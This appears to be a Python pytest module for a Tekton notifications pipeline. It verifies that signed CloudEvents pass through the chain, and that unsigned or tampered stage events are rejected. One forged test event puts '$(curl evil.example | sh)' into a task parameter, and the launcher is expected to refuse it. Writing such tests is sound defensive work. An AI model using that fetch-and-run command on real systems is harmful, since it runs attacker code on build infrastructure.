"""With a signing key, the chain works end to end and a forgery posted to the broker does not:
stage events carry an HMAC only the functions can make (tekton_notifications.signing)."""

from __future__ import annotations

import copy
from collections.abc import Iterator
from typing import Any

import pytest

from tekton_notifications import notifications, signing
from tekton_notifications.devtools.chain import LocalChain
from tekton_notifications.devtools.serving import SERVERS
from tests.conftest import EXAMPLES, load_cloudevent, skip_unless_servable
from tests.functions.serving import post_cloudevent, post_event

pytestmark = pytest.mark.slow
KEY = "0123456789abcdef" * 4


@pytest.fixture(scope="module", params=SERVERS)
def chain(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[LocalChain]:
    server = str(request.param)
    skip_unless_servable(server)
    manifests = (EXAMPLES / "policies", EXAMPLES / "templates")
    with LocalChain(
        tmp_path_factory.mktemp("signed"),
        manifests=manifests,
        server=server,
        time_scale=0.05,
        env={signing.ENVIRONMENT: KEY},
    ) as c:
        yield c


def test_a_tekton_event_still_becomes_a_notification_run(chain: LocalChain) -> None:
    # The cancelled fixture matches two policies: one reply and one fan-out POST, both signed.
    cloudevent = load_cloudevent("10-pipelinerun-cancelled.json")
    assert chain.send(cloudevent) == 202
    assert chain.wait_idle()
    uid = cloudevent["data"]["pipelineRun"]["metadata"]["uid"]
    runs = [
        r
        for r in chain.notification_runs()
        if r["metadata"]["labels"]["notifications.tekton.dev/source-uid"] == uid
    ]
    assert len(runs) == 2
    assert chain.failures.events == [] and chain.router.dead_letters == []


def test_replies_are_signed_and_forged_or_altered_stage_events_are_refused(
    chain: LocalChain,
) -> None:
    filter_url = chain.functions["policy-filter"].url
    tekton_event = load_cloudevent("08-pipelinerun-failed.json")
    chain.store_run(tekton_event)  # the filter confirms the run before a rate limit is spent
    reply = post_cloudevent(filter_url, tekton_event)
    assert reply.type == notifications.MATCHED
    attributes = {k[3:]: v for k, v in reply.headers.items() if k.startswith("ce-")}
    data: dict[str, Any] = reply.data
    assert signing.EXTENSION in attributes

    renderer = chain.functions["template-renderer"].url
    rendered = post_event(renderer, attributes, data)
    assert rendered.type == notifications.RENDERED
    assert rendered.headers.get(f"ce-{signing.EXTENSION}")

    unsigned = {k: v for k, v in attributes.items() if k != signing.EXTENSION}
    refused = post_event(renderer, unsigned, data)
    assert refused.status == 400 and "is not signed" in refused.json["message"]

    launcher = chain.functions["task-launcher"].url
    forged = copy.deepcopy(rendered.data)
    forged["resource"]["spec"]["params"][0]["value"] = "$(curl evil.example | sh)"
    rendered_attributes = {k[3:]: v for k, v in rendered.headers.items() if k.startswith("ce-")}
    refused = post_event(launcher, rendered_attributes, forged)
    assert refused.status == 400 and "bad notificationsig" in refused.json["message"]
